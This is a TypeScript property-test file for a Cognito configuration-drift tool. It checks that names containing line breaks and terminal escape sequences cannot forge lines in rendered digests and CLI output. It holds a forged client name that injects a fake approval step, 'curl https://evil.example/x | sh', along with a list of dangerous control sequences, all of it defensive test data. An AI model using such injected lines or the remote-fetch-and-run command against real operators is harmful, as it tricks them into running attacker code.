import { PassThrough } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatFindings, type Io } from '../../../cli/output.js';
import { escapeControl, escapeLines, hasControl, jsonForHumans } from '../../../lambda/core/escape.js';
import {
  describeChange,
  type PoolDrift,
  type RunContext,
  renderDriftDigest,
} from '../../../lambda/core/render.js';
import { renderResolved, renderScanIncomplete } from '../../../lambda/core/run-notices.js';
import { type Finding, Severity } from '../../../lambda/core/types.js';
import { CATALOG } from '../../../lambda/surfaces/index.js';

/**
 * No name can forge a line: whatever a pool, client, tag or value is called, each rendered line is
 * one the renderer meant to write. Cognito's name pattern allows line breaks.
 */

const ctx: RunContext = {
  accountId: '123456789012',
  region: 'us-east-1',
  runId: 'run-1',
  at: '2026-01-05T06:00:00.000Z',
  approveCommand: (poolId) => `npm run approve -- --pool ${poolId}`,
  catalog: CATALOG,
};

/** The forged text from the issue, and characters that end or rewrite a line somewhere. */
const FORGERY =
  'web\n  [LOW] nothing to see\n  To approve after review:\n    curl https://evil.example/x | sh';
const dangerous = fc.constantFrom(
  '\n',
  '\r',
  '\r\n',
  '\u000b',
  '\u000c',
  '\u001b[2K',
  '\u001b]0;title\u0007',
  '\u0085',
  '\u009b31m',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u0000',
  '\u007f',
);
/** Any text, with line breaks and escape sequences mixed in often. */
const anyName = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.array(fc.oneof(fc.string({ maxLength: 8 }), dangerous), { maxLength: 8 }).map((parts) => parts.join('')),
  fc.constant(FORGERY),
);

/** Lines holding a character a terminal or mail client could treat as a line end or a control sequence. */
const controlLines = (text: string) => text.split('\n').filter(hasControl);

function findingsNamed(poolName: string, clientName: string, tag: string, value: string): Finding[] {
  const scope = { poolId: 'us-east-1_AbC', poolName };
  const client = { ...scope, clientId: 'client1', clientName };
  return [
    { ...client, kind: 'client-added', severity: Severity.HIGH, rule: 'resource-added-or-removed' },
    {
      ...client,
      kind: 'list-changed',
      path: 'CallbackURLs',
      added: [value],
      removed: [],
      severity: Severity.HIGH,
      rule: 'new-redirect-domain',
    },
    {
      ...scope,
      kind: 'field-changed',
      path: `UserPoolTags.${tag}`,
      before: undefined,
      after: value,
      severity: Severity.LOW,
      rule: 'cosmetic',
    },
  ] as Finding[];
}

function digest(poolName: string, clientName: string, tag: string, value: string): string {
  const pool: PoolDrift = {
    poolId: 'us-east-1_AbC',
    poolName,
    findings: findingsNamed(poolName, clientName, tag, value),
    status: 'new',
  };
  return renderDriftDigest(ctx, [pool]).body;
}

function captureIo(): Io {
  return { stdout: new PassThrough(), stderr: new PassThrough(), stdin: new PassThrough(), env: {} };
}

describe('escapeControl', () => {
  it('turns every control character into a visible escape', () => {
    expect(escapeControl('a\nb\r\u001b[31m\u0085\u2028')).toBe('a\\x0ab\\x0d\\x1b[31m\\x85\\u2028');
  });

  it('leaves printable text, accents and emoji alone', () => {
    expect(escapeControl('Café ✓ 日本 \\n')).toBe('Café ✓ 日本 \\n');
  });

  it('is idempotent and leaves nothing to escape', () => {
    fc.assert(
      fc.property(anyName, (name) => {
        const once = escapeControl(name);
        expect(hasControl(once)).toBe(false);
        expect(escapeControl(once)).toBe(once);
      }),
    );
  });

  it('keeps the line breaks of a multi-line document and escapes the rest', () => {
    expect(escapeLines('{\n  "reason": "\u001b[2Jx"\n}')).toBe('{\n  "reason": "\\x1b[2Jx"\n}');
  });

  it('gives JSON that parses to the same value and shows no raw C1 control', () => {
    fc.assert(
      fc.property(anyName, (name) => {
        const text = jsonForHumans({ name }, 2);
        expect(controlLines(text)).toEqual([]);
        expect(JSON.parse(text)).toEqual({ name });
      }),
    );
  });
});

describe('no rendered line can be forged by a name', () => {
  it('email digest: any pool, client, tag or value name gives the same lines as a plain one', () => {
    const plainLines = digest('p', 'c', 't', 'https://v.example/cb').split('\n').length;
    fc.assert(
      fc.property(anyName, anyName, anyName, anyName, (poolName, clientName, tag, value) => {
        const body = digest(poolName, clientName, tag, value);
        expect(controlLines(body)).toEqual([]);
        expect(body.split('\n')).toHaveLength(plainLines);
      }),
    );
  });

  it('the forged client name of the report shows on one line, escaped', () => {
    const body = digest('customers', FORGERY, 't', 'x');

    expect(body).not.toMatch(/^\s+\[LOW\] nothing to see$/m);
    expect(body).not.toMatch(/^\s+curl https:\/\/evil/m);
    expect(body).toContain(
      'App client created: web\\x0a  [LOW] nothing to see\\x0a  To approve after review:\\x0a    curl https://evil.example/x | sh (client1)',
    );
  });

  it('scan-incomplete and resolved notices: names and reasons stay on their line', () => {
    fc.assert(
      fc.property(anyName, anyName, (name, reason) => {
        const incomplete = renderScanIncomplete(ctx, [{ what: `Pool ${name} (p1)`, reason }]).body;
        const resolved = renderResolved(ctx, [{ poolId: 'p1', poolName: name }]).body;
        expect(controlLines(incomplete)).toEqual([]);
        expect(controlLines(resolved)).toEqual([]);
        expect(incomplete.split('\n')).toHaveLength(
          renderScanIncomplete(ctx, [{ what: 'Pool x (p1)', reason: 'r' }]).body.split('\n').length,
        );
        expect(resolved.split('\n')).toHaveLength(
          renderResolved(ctx, [{ poolId: 'p1', poolName: 'x' }]).body.split('\n').length,
        );
      }),
    );
  });

  it('CLI findings: any name gives the same lines as a plain one', () => {
    const plain = formatFindings(findingsNamed('p', 'c', 't', 'v'), captureIo()).split('\n').length;
    fc.assert(
      fc.property(anyName, anyName, anyName, anyName, (poolName, clientName, tag, value) => {
        const text = formatFindings(findingsNamed(poolName, clientName, tag, value), captureIo());
        expect(controlLines(text)).toEqual([]);
        expect(text.split('\n')).toHaveLength(plain);
      }),
    );
  });

  it('describeChange is one line for any change', () => {
    fc.assert(
      fc.property(anyName, anyName, (name, value) => {
        for (const finding of findingsNamed(name, name, name, value)) {
          expect(describeChange(finding, CATALOG)).not.toMatch(/[\n\r\u2028\u2029\u0085]/);
        }
      }),
    );
  });
});
